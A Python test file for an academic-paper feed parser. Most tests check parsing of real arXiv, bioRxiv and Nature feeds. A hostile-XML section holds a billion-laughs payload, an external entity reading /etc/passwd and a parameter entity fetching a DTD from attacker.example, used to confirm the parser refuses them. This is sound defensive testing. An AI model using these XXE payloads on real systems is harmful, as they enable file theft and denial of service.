"""The feed parser (RSS 2.0, RSS 1.0 / RDF, Atom) on real feeds, hostile XML and rendered items.

Real samples (tests/fixtures/feed/SOURCE.md): arXiv's RSS (the 2024 format with
`Announce Type`, and the RSS 1.0 format before it), arXiv API answers from 2016 and 2026
(results, an error, no results), a bioRxiv subject feed and a Nature journal feed.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from paperidx.errors import InputError
from paperidx.models import Rejected, validate_raw
from paperidx.parsing import detect_format, feed
from paperidx.parsing.base import Notice, ParseEvent, ParseOptions, RawRecord, Skipped

from .conftest import invoke

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "feed"
ARXIV_RSS = FIXTURES / "arxiv-rss-2026-09-24-cs.LG+cs.AI+cs.CL+stat.ML.xml"
ARXIV_OLD_RSS = FIXTURES / "arxiv-rss-old-rdf-2021-07-08-hep-ex.rdf"
API_2026 = FIXTURES / "arxiv-api-2026-09-24-cat-cs.CL.xml"
API_TESTING = FIXTURES / "arxiv-api-2026-04-12-all-testing.xml"
API_2016 = FIXTURES / "arxiv-api-2016-10-09-au-del_maestro.xml"
API_ERROR = FIXTURES / "arxiv-api-error-incorrect-id.xml"
API_EMPTY = FIXTURES / "arxiv-api-no-results.xml"
BIORXIV = FIXTURES / "biorxiv-bioengineering-2019-11-29.rdf"
NATURE = FIXTURES / "nature-catalysis-2026-05-12.rdf"
SAMPLES = [ARXIV_RSS, ARXIV_OLD_RSS, API_2026, API_TESTING, API_2016, BIORXIV, NATURE]


def parse_text(text: str, **options: object) -> list[ParseEvent]:
    return list(feed.parse(iter(text.split("\n")), ParseOptions(**options)))  # type: ignore[arg-type]


def parse_file(path: Path, named: bool = True, **options: object) -> list[ParseEvent]:
    name = path.name if named else None
    return parse_text(path.read_text(encoding="utf-8"), source_name=name, **options)


def records(events: list[ParseEvent]) -> list[RawRecord]:
    return [e for e in events if isinstance(e, RawRecord)]


def skipped(events: list[ParseEvent]) -> list[Skipped]:
    return [e for e in events if isinstance(e, Skipped)]


def summary(record: RawRecord) -> tuple[object, ...]:
    return (record.title, record.authors, record.arxiv_id, record.doi, record.date)


# --- real feeds -----------------------------------------------------------------------------


def test_arxiv_rss_new_cross_and_replace_are_all_sightings() -> None:
    events = parse_file(ARXIV_RSS, named=False)

    papers = records(events)
    day = dt.date(2026, 9, 24)
    assert [summary(p) for p in papers] == [
        (
            "The Drift Contract: Spectral Updates for Depth-Robust Local Learning",
            ["Fabien Polly"],
            "2609.26811",
            None,
            day,
        ),
        (
            "Signal2Symbol: Neuro-Symbolic Temporal Reasoning for Explainable Physiological "
            "Time-Series Anomaly Detection",
            ["Naser Mansour", "Sidahmed Benabderrahmane", "Ameer Rahwan"],
            "2609.26820",
            None,
            day,
        ),
        (
            "Outlier Detection for Multi-Network Data",
            ["Pritam Dey", "Zhengwu Zhang", "David B. Dunson"],
            "2205.06398",
            "10.1093/bioinformatics/btac431",
            day,
        ),
        (
            "Random Polytope Descriptors",
            ["Michael Joswig", "Marek Kaluba", "Lukas Ruff"],
            "2009.13987",
            None,
            day,
        ),
    ]
    assert events == papers  # no furniture, no notices: the channel is not a paper
    assert [p.line for p in papers] == [17, 29, 42, 57]
    assert papers[0].abstract.startswith("Local learning trains each layer with its own")
    assert "Announce Type" not in papers[0].abstract
    assert papers[3].abstract.startswith("We introduce a class of random polytopes")
    assert papers[0].links == ["https://arxiv.org/abs/2609.26811"]
    # The replacement's pubDate is the day of the replacement, not of the paper.
    assert [p.published for p in papers] == [day, day, day, None]


def test_arxiv_rss_before_2024_titles_lose_their_arxiv_suffix() -> None:
    papers = records(parse_file(ARXIV_OLD_RSS, named=False))

    assert [(p.title, p.arxiv_id, p.authors) for p in papers] == [
        (
            r"Observation of excited $\Omega_c^0$ baryons in "
            r"$\Omega_b^- \to\Xi_c^+ K^-\pi^-$ decays",
            "2107.03419",
            ["LHCb collaboration", "R. Aaij"],
        ),
        (
            "Potential applications of modular representation theory to quantum mechanics",
            "2106.00550",
            ["Robert A. Wilson"],
        ),
        (
            "Fireball tomography from bottomonia elliptic flow in relativistic heavy-ion "
            "collisions",
            "2007.03939",
            [
                "Partha Pratim Bhaduri",
                "Mubarak Alqahtani",
                "Nicolas Borghini",
                "Amaresh Jaiswal",
                "Michael Strickland",
            ],
        ),
    ]
    assert {p.date for p in papers} == {dt.date(2021, 7, 8)}
    assert [p.abstract for p in papers] == ["desc1", "desc2", "desc3"]


def test_arxiv_api_2026_answer() -> None:
    events = parse_file(API_2026, named=False)

    papers = records(events)
    assert events == papers
    assert [(p.arxiv_id, p.title, p.doi, p.published) for p in papers] == [
        (
            "2609.28471",
            "Contrastive Learning for Authorship Verification",
            "10.1007/978-3-032-39150-6_7",
            dt.date(2026, 9, 23),
        ),
        (
            "2609.28449",
            "Can LLMs Reason About Runtime Behavior? A Repository-Level Dynamic Benchmark",
            None,
            dt.date(2026, 9, 23),
        ),
        (
            "2609.28442",
            "Order-Invariant Answers, Order-Sensitive Representations in Mathematical Reasoning",
            None,
            dt.date(2026, 9, 23),
        ),
    ]
    assert {p.date for p in papers} == {dt.date(2026, 9, 24)}  # the feed's <updated>
    assert papers[1].authors == [
        "Hamed Taherkhani",
        "Mohammad Abdollahi",
        "Melika Sepidband",
        "Hridya Dhulipala",
        "Tien N. Nguyen",
        "Hadi Hemmati",
    ]
    assert papers[0].links == [
        "https://arxiv.org/abs/2609.28471v1",
        "https://arxiv.org/pdf/2609.28471v1",
        "https://doi.org/10.1007/978-3-032-39150-6_7",
    ]
    assert [p.line for p in papers] == [10, 29, 60]


def test_arxiv_api_2016_answer_hard_wraps_and_tex() -> None:
    papers = records(parse_file(API_2016, named=False))

    assert [(p.arxiv_id, p.doi, p.published) for p in papers] == [
        ("1201.4869", "10.1142/s021797921244002x", dt.date(2012, 1, 23)),
        ("cond-mat/0412498", "10.1103/physrevb.71.184511", dt.date(2004, 12, 19)),
        ("1412.6529", "10.1103/physrevb.91.184507", dt.date(2014, 12, 19)),
    ]
    assert papers[1].title == "Thermal melting of density waves on the square lattice"
    assert papers[2].authors == ["C. M. Herdman", "A. Del Maestro"]
    assert papers[2].abstract.startswith("We consider the Rényi entanglement entropy")
    assert r"$\delta$-function interacting bosons" in papers[2].abstract
    assert "\n" not in papers[0].abstract
    assert {p.date for p in papers} == {dt.date(2016, 10, 9)}


def test_arxiv_api_answer_keeps_names_as_served() -> None:
    papers = records(parse_file(API_TESTING, named=False))

    assert [p.arxiv_id for p in papers] == ["2202.12139", "2405.13786", "2005.14124"]
    assert [p.doi for p in papers] == [
        "10.1109/icstw55395.2022.00035",
        "10.1109/icstw58534.2023.00023",
        "10.1145/3395363.3397376",
    ]
    # The recorded answer holds mojibake (UTF-8 read as Latin-1 by the recorder): kept as is.
    assert papers[1].authors[0] == "Aurora RamÃ\xadrez"
    assert papers[2].authors == [
        "Yuqi Chen",
        "Bohan Xuan",
        "Christopher M. Poskitt",
        "Jun Sun",
        "Fan Zhang",
    ]


def test_arxiv_api_error_answer_refuses_the_file() -> None:
    with pytest.raises(InputError, match=r"^arXiv API error: incorrect id format for abc$"):
        parse_file(API_ERROR)


def test_arxiv_api_answer_without_results_says_so() -> None:
    assert parse_file(API_EMPTY) == [
        Notice("the arXiv API query matched no papers (totalResults 0)")
    ]


def test_biorxiv_rdf_feed_surname_initial_pairs_and_doi() -> None:
    events = parse_file(BIORXIV, named=False)

    (paper,) = records(events)
    assert paper.title == (
        "Microscale Collagen and Fibroblast Interactions Enhance Primary Human Hepatocyte "
        "Functions in 3-Dimensional Models"
    )
    assert paper.authors == ["D. Kukla", "A. Crampton", "D. Wood", "S. Khetani"]
    assert paper.doi == "10.1101/857789"
    assert paper.arxiv_id is None
    assert paper.links == ["http://biorxiv.org/cgi/content/short/857789v1?rss=1"]
    assert paper.published == dt.date(2019, 11, 29)
    assert paper.abstract.startswith("Human liver models that are 3-dimensional (3D)")
    assert paper.line == 24
    # The channel has no date: the item's own date, and the user is told once.
    assert paper.date == dt.date(2019, 11, 29)
    assert [type(e) for e in events] == [Notice, RawRecord]


def test_journal_feed_without_its_furniture() -> None:
    (paper,) = records(parse_file(NATURE))

    assert paper.title == (
        "Direct electrochemical propylene epoxidation over amorphized perovskite oxide in "
        "non-halogenated aqueous electrolyte"
    )
    assert paper.authors == ["Kalipada Koner", "Jason S. Adams"]  # listed twice in the feed
    assert paper.doi == "10.1038/s41929-026-01535-6"
    assert paper.abstract == (
        "Direct electrocatalytic oxidation of propylene in aqueous solution has been limited "
        "to precious-metal catalysts in halogenated electrolytes."
    )
    assert paper.date == dt.date(2026, 5, 12)  # from the file name
    assert paper.published == dt.date(2026, 5, 12)


@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.name)
def test_every_sample_is_detected_as_a_feed(path: Path) -> None:
    assert detect_format(path.read_text(encoding="utf-8")[:8192]) == "feed"


# --- dates ----------------------------------------------------------------------------------

ITEM = (
    "<item><title>A Paper</title><description>An abstract.</description>"
    "<pubDate>Mon, 02 Sep 2024 10:00:00 GMT</pubDate></item>"
)


@pytest.mark.parametrize(
    ("channel", "options", "expected"),
    [
        ("<pubDate>Tue, 03 Sep 2024 00:00:00 -0400</pubDate>", {}, "2024-09-03"),
        ("<lastBuildDate>Wed, 04 Sep 2024 05:00:00 +0000</lastBuildDate>", {}, "2024-09-04"),
        ("", {"source_name": "cs.CL-2024-09-05.xml"}, "2024-09-05"),
        ("", {"date": dt.date(2024, 9, 6)}, "2024-09-06"),
        ("", {}, "2024-09-02"),
    ],
    ids=["pubDate", "lastBuildDate", "file-name", "given-date", "item-date"],
)
def test_digest_day_precedence(channel: str, options: dict[str, object], expected: str) -> None:
    text = f"<rss><channel><title>T</title>{channel}{ITEM}</channel></rss>"

    (paper,) = records(parse_text(text, **options))

    assert paper.date == dt.date.fromisoformat(expected)
    assert paper.published == dt.date(2024, 9, 2)


def test_a_channel_date_after_the_items_still_dates_them() -> None:
    text = f"<rss><channel>{ITEM}{ITEM.replace('A Paper', 'B')}<pubDate>3 Sep 2024</pubDate>"
    text += "</channel></rss>"

    assert {p.date for p in records(parse_text(text))} == {dt.date(2024, 9, 3)}


# --- dialects and furniture -----------------------------------------------------------------


def test_arxiv_rss_in_atom_form() -> None:
    text = """<?xml version='1.0' encoding='UTF-8'?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom"
      xmlns:dc="http://purl.org/dc/elements/1.1/">
  <id>http://rss.arxiv.org/atom/cs.CR</id>
  <title>cs.CR updates on arXiv.org</title>
  <updated>2026-08-20T04:00:00.000000-04:00</updated>
  <entry>
    <id>oai:arXiv.org:2608.18187v1</id>
    <title>A Network Study</title>
    <summary>arXiv:2608.18187v1 Announce Type: new
Abstract: A network result for &lt;think&gt; tokens, with d &lt; 2 and e &gt; 1.</summary>
    <published>2026-08-20T00:00:00-04:00</published>
    <link href="https://arxiv.org/abs/2608.18187" rel="alternate" type="text/html"/>
    <arxiv:announce_type>new</arxiv:announce_type>
    <dc:creator>Ada Lovelace, Alan Turing</dc:creator>
  </entry>
</feed>"""

    (paper,) = records(parse_text(text))

    assert summary(paper) == (
        "A Network Study",
        ["Ada Lovelace", "Alan Turing"],
        "2608.18187",
        None,
        dt.date(2026, 8, 20),
    )
    # arXiv's text is plain: what looks like a tag is part of the abstract.
    assert paper.abstract == "A network result for <think> tokens, with d < 2 and e > 1."
    assert paper.line == 7


def test_journal_rss_html_description_byline_and_doi_link() -> None:
    text = """<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>Recent Articles in PRX Quantum</title><description>APS feed</description>
<pubDate>Fri, 15 May 2026 10:00:00 +0000</pubDate>
<item>
  <title>Adaptive Readout of a &lt;i&gt;Quantum&lt;/i&gt; Measurement</title>
  <link>http://link.aps.org/doi/10.1103/jtn1-wzyl</link>
  <description>&lt;p&gt;Author(s): Arjen Vaartjes, Jane Roe, and John Doe&lt;/p&gt;&lt;p&gt;Adaptive
readout improves qubit fidelity &amp;amp; speed.&lt;/p&gt;&lt;br/&gt;
[PRX Quantum 7, 020330] Published Fri May 15, 2026</description>
</item>
<item><title>Journal news</title><link>https://quantum-journal.org/news/</link></item>
</channel></rss>"""

    events = parse_text(text)

    (paper,) = records(events)
    assert paper.title == "Adaptive Readout of a Quantum Measurement"
    assert paper.authors == ["Arjen Vaartjes", "Jane Roe", "John Doe"]
    assert paper.abstract == "Adaptive readout improves qubit fidelity & speed."
    assert paper.doi == "10.1103/jtn1-wzyl"
    assert paper.date == dt.date(2026, 5, 15)
    (news,) = skipped(events)
    assert news.line == 11
    assert "item 2" in news.reason and "not a paper" in news.reason


def test_generic_atom_feed_with_html_and_xhtml_text() -> None:
    text = """<feed xmlns="http://www.w3.org/2005/Atom"><title>Journal</title>
<updated>2025-01-02T00:00:00Z</updated>
<entry><title type="html">Spin &lt;i&gt;liquids&lt;/i&gt;</title>
<id>tag:journal.example,2025:1</id>
<link rel="alternate" href="https://journal.example/articles/1"/>
<author><name>Ann Example</name></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>We <b>find</b> spin
liquids.</p></div></content>
<published>2024-12-30T00:00:00Z</published>
</entry></feed>"""

    (paper,) = records(parse_text(text))

    assert (paper.title, paper.abstract, paper.authors) == (
        "Spin liquids",
        "We find spin liquids.",
        ["Ann Example"],
    )
    assert paper.arxiv_id is None and paper.doi is None
    assert paper.links == ["https://journal.example/articles/1"]
    assert (paper.date, paper.published) == (dt.date(2025, 1, 2), dt.date(2024, 12, 30))


def test_items_without_title_and_repeated_items_are_skipped_with_their_line() -> None:
    text = "\n".join(
        [
            "<rss><channel><title>Channel title is never a paper</title>",
            "<description>Nor is its description.</description>",
            "<item><description>arXiv:2401.00001v1 Announce Type: new Abstract: x</description>",
            "</item>",
            "<item><title>Kept</title><description>arXiv:2401.00002v1 Announce Type: new",
            "Abstract: First sighting.</description></item>",
            "<item><title>Kept</title><description>arXiv:2401.00002v1 Announce Type: cross",
            "Abstract: Again.</description></item>",
            "</channel></rss>",
        ]
    )

    events = parse_text(text, date=dt.date(2024, 1, 2))

    assert [(type(e).__name__, getattr(e, "line", None)) for e in events] == [
        ("Skipped", 3),
        ("RawRecord", 5),
        ("Skipped", 7),
    ]
    reasons = [e.reason for e in skipped(events)]
    assert reasons == ["item 1 has no title", "item 3 repeats the paper at line 5"]
    assert records(events)[0].abstract == "First sighting."


def test_undeclared_html_entities_and_control_characters_are_read() -> None:
    text = "<rss><channel><item><title>Caf&eacute;&nbsp;Physics\x0c</title>"
    text += "<description>An abstract&#8230;\x1b</description></item></channel></rss>"

    (paper,) = records(parse_text(text))

    assert paper.title == "Café Physics"
    assert paper.abstract == "An abstract…"


# --- hostile and broken XML -----------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss><channel><item><title>&lol9;</title><description>x</description></item></channel></rss>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss><channel><item><title>&xxe;</title><description>x</description></item></channel></rss>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss><channel><item><title>t</title><description>x</description></item></channel></rss>"""


@pytest.mark.parametrize(
    "text",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_entity_declarations_are_refused_in_one_line(text: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_text(text)

    message = str(caught.value)
    assert message.startswith("XML declares entities")
    assert "refused for safety" in message
    assert "\n" not in message and "root:" not in message


def test_a_doctype_without_entities_is_harmless_and_read() -> None:
    text = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        "<rss version='0.91'><channel><item><title>Old</title><description>Feed.</description>"
        "</item></channel></rss>"
    )

    assert [p.title for p in records(parse_text(text))] == ["Old"]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            ARXIV_RSS.read_text(encoding="utf-8")[:3000],
            r"^XML feed ends before its elements are closed \(truncated\?\) at line 44$",
        ),
        (
            "<rss><channel>\n<item><title>a</item>\n</channel></rss>",
            r"^malformed XML at line 2: mismatched tag$",
        ),
        ("<rss><channel><title>AT&T</title></channel></rss>", r"^malformed XML at line 1: "),
        ("just some text\n<rss>", r"^not XML"),
        ("<html><body><p>Hi</p></body></html>", r"^XML document is <html>, not a feed"),
        ("<rss></rss>\n<rss></rss>", r"^malformed XML at line 2: junk after document element"),
        ("", r"^malformed XML at line 1: no element found|^XML feed ends"),
    ],
    ids=["truncated", "mismatched", "bare-ampersand", "text", "html", "two-roots", "empty"],
)
def test_unreadable_xml_is_one_input_error_with_its_line(text: str, message: str) -> None:
    with pytest.raises(InputError, match=message) as caught:
        parse_text(text)

    assert "\n" not in str(caught.value)


def test_fifty_megabytes_of_nested_tags_stop_at_the_depth_limit() -> None:
    # 50 MB in lines of a thousand tags: refused at the depth limit, long before the end.
    lines = (("<rss><channel><item>" if n == 0 else "") + "<a>" * 1000 for n in range(16_667))

    with pytest.raises(InputError, match=r"nested more than 256 elements deep at line 1;"):
        list(feed.parse(lines, ParseOptions()))


def test_fifty_megabytes_on_one_line_are_refused_before_parsing() -> None:
    lines = iter(["<rss><channel><item>" + "<a>" * (50_000_000 // 3)])

    with pytest.raises(InputError, match=r"^too large for an XML feed \(50\+ MB of text"):
        list(feed.parse(lines, ParseOptions()))


def test_an_item_too_large_to_be_a_paper_is_skipped_and_parsing_goes_on() -> None:
    huge = "<b/>" * (feed.MAX_ITEM_ELEMENTS + 10)
    text = "\n".join(
        [
            "<rss><channel><pubDate>3 Sep 2024</pubDate>",
            f"<item><title>Huge</title><description>{huge}</description></item>",
            "<item><title>Small</title><description>Fine.</description></item>",
            "</channel></rss>",
        ]
    )

    events = parse_text(text)

    assert [type(e) for e in events] == [Skipped, RawRecord]
    assert events[0] == Skipped(2, "item 1 is too large to be a paper; skipped")


def test_the_input_size_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feed, "MAX_DOCUMENT_CHARS", 1000)
    text = "<rss><channel>\n" + "<!-- padding -->\n" * 100 + "</channel></rss>"

    with pytest.raises(InputError, match=r"^too large for an XML feed"):
        parse_text(text)


xml_fragments = st.sampled_from(
    [
        "<rss>", "</rss>", "<channel>", "</channel>", "<item>", "</item>", "<title>",
        "</title>", "<description>", "</description>", "<feed xmlns='http://www.w3.org/2005/Atom'>",
        "</feed>", "<entry>", "</entry>", "<id>http://arxiv.org/api/errors#x</id>",
        "<summary>arXiv:2401.00001v1 Announce Type: new Abstract: x</summary>",
        "<dc:creator xmlns:dc='http://purl.org/dc/elements/1.1/'>A, B.</dc:creator>",
        "<pubDate>Mon, 02 Sep 2024</pubDate>", "&amp;", "&nbsp;", "&bogus;", "<![CDATA[<p>]]>",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>", "<?xml version='1.0'?>", "<!-- c -->", "\x00", "]]>",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(xml_fragments, st.text(max_size=20)), max_size=40), st.booleans())
def test_any_input_gives_events_or_one_input_error(parts: list[str], newlines: bool) -> None:
    text = ("\n" if newlines else "").join(parts)
    try:
        events = parse_text(text)
    except InputError as error:
        assert str(error) and "\n" not in str(error)
        return
    assert all(isinstance(e, RawRecord | Skipped | Notice) for e in events)
    assert all(e.line >= 1 for e in events if isinstance(e, RawRecord | Skipped))
    feed.sniff(text)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(SAMPLES),
    st.integers(min_value=0, max_value=9000),
    st.one_of(xml_fragments, st.text(max_size=8)),
)
def test_damaged_real_feeds_give_valid_papers_or_one_input_error(
    path: Path, cut: int, insert: str
) -> None:
    text = path.read_text(encoding="utf-8")
    cut = min(cut, len(text))
    try:
        events = parse_text(text[:cut] + insert + text[cut:])
    except InputError as error:
        assert str(error) and "\n" not in str(error)
        return
    for record in records(events):
        try:
            validate_raw(record, path.name)
        except Rejected as rejected:
            assert rejected.problems


# --- sniffing -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "head",
    [
        "<?xml version='1.0'?>\n<rss version='2.0'>",
        "\ufeff<!-- generated -->\n<rss>",
        '<feed xmlns="http://www.w3.org/2005/Atom">',
        '<?xml version="1.0"?><atom:feed xmlns:atom="http://www.w3.org/2005/Atom">',
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/">',
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "x.dtd">\n<rss>',
    ],
)
def test_sniff_claims_feeds(head: str) -> None:
    assert feed.sniff(head) == 0.95


@pytest.mark.parametrize(
    "head",
    [
        "<!DOCTYPE html><html><head><title>rss</title></head>",
        "<feed><entry/></feed>",  # no Atom namespace: not sure enough
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>',
        '<?xml version="1.0"?><OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/">',
        "Notes on parsing <rss> feeds\n<rss>",
        "```xml\n<rss>\n```",
        '[{"title": "<rss>"}]',
        "",
    ],
)
def test_sniff_rejects_everything_else(head: str) -> None:
    assert feed.sniff(head) == 0.0


FEED_SUFFIXES = {".xml", ".rss", ".atom", ".rdf"}


def test_sniff_claims_no_other_fixture_or_shared_sample(shared_data: Path) -> None:
    others = [
        p
        for p in (FIXTURES.parent).rglob("*")
        # Other helpers' recorded feeds (.xml, .rss...) are feeds: claiming those is right.
        if p.is_file() and FIXTURES not in p.parents and p.suffix not in FEED_SUFFIXES
    ]
    others += [p for p in (shared_data / "hf_daily_papers").rglob("*") if p.is_file()][:200]
    others += list((shared_data / "arxiv_cs_daily" / "data").glob("*.jsonl"))[:50]
    assert len(others) > 100
    for path in others:
        head = path.read_bytes()[:8192].decode("utf-8", "replace")
        assert feed.sniff(head) == 0.0, path


# --- rendered feeds parse back --------------------------------------------------------------

words = st.text(
    alphabet=st.characters(
        codec="utf-8", categories=["L", "N"], include_characters=" .,:;!?()[]<>&\"'/+*=%#@"
    ),
    min_size=1,
    max_size=60,
).filter(lambda s: any(c.isalnum() for c in s) and "''" not in s)
name_part = st.sampled_from(
    ["Ada", "Alan", "Émilie", "Zhang", "Wei", "O'Neil", "Nakamura", "Ruff", "Dunson", "Øster"]
)
author_name = st.builds(lambda a, b: f"{a} {b}", name_part, name_part)
arxiv_ids = st.builds(
    lambda yymm, number: f"{yymm}.{number:05d}",
    st.sampled_from(["2401", "2412", "2509", "2609"]),
    st.integers(min_value=1, max_value=99_999),
)
Paper = tuple[str, list[str], str]  # title, authors, arXiv id
papers_strategy = st.lists(
    st.tuples(words, st.lists(author_name, min_size=1, max_size=4, unique=True), arxiv_ids),
    min_size=1,
    max_size=5,
    unique_by=lambda p: p[2],
)


def as_rss(papers: list[Paper]) -> str:
    items = "".join(
        f"<item><title>{escape(title)}</title><link>https://arxiv.org/abs/{arxiv_id}</link>"
        f"<description>arXiv:{arxiv_id}v1 Announce Type: new \nAbstract: An abstract."
        f"</description><dc:creator>{escape(', '.join(authors))}</dc:creator></item>\n"
        for title, authors, arxiv_id in papers
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>\n<title>cs.XX updates</title>\n'
        f"<pubDate>Thu, 18 Sep 2025 00:00:00 -0400</pubDate>\n{items}</channel></rss>"
    )


def as_atom(papers: list[Paper]) -> str:
    entries = "".join(
        f"<entry><id>http://arxiv.org/abs/{arxiv_id}v2</id><title>{escape(title)}</title>"
        "<summary>An abstract.</summary>"
        + "".join(f"<author><name>{escape(name)}</name></author>" for name in authors)
        + f"<link href={quoteattr(f'https://arxiv.org/abs/{arxiv_id}v2')} rel='alternate'/>"
        "<published>2025-09-17T10:00:00Z</published></entry>\n"
        for title, authors, arxiv_id in papers
    )
    return (
        '<feed xmlns="http://www.w3.org/2005/Atom">\n<updated>2025-09-18T00:00:00Z</updated>\n'
        f"{entries}</feed>"
    )


@settings(max_examples=100, deadline=None)
@given(papers_strategy, st.sampled_from([as_rss, as_atom]))
def test_rendered_items_parse_back(
    papers: list[Paper], render: Callable[[list[Paper]], str]
) -> None:
    text = render(papers)

    parsed = records(parse_text(text))

    assert [(p.title, p.authors, p.arxiv_id) for p in parsed] == [
        (" ".join(title.split()), authors, arxiv_id) for title, authors, arxiv_id in papers
    ]
    assert {p.date for p in parsed} == {dt.date(2025, 9, 18)}


# --- through the CLI ------------------------------------------------------------------------


def test_cli_detects_feeds_and_shows_a_paper(tmp_path: Path) -> None:
    result = invoke("ingest", str(ARXIV_RSS), str(API_2016), str(BIORXIV))
    assert result.exit_code == 0, result.output

    shown = invoke("show", "2205.06398", "--format", "json")
    assert shown.exit_code == 0, shown.output
    paper = json.loads(shown.stdout)
    assert paper["title"] == "Outlier Detection for Multi-Network Data"
    assert paper["authors"] == ["Pritam Dey", "Zhengwu Zhang", "David B. Dunson"]
    assert paper["doi"] == "10.1093/bioinformatics/btac431"
    assert paper["dates"] == ["2026-09-24"]

    old = json.loads(invoke("show", "cond-mat/0412498", "--format", "json").stdout)
    assert old["title"] == "Thermal melting of density waves on the square lattice"
    assert old["published"] == "2004-12-19"


def test_cli_reports_an_arxiv_api_error_as_a_failed_file() -> None:
    result = invoke("ingest", str(API_ERROR))

    assert result.exit_code == 3
    assert "arXiv API error: incorrect id format for abc" in result.output
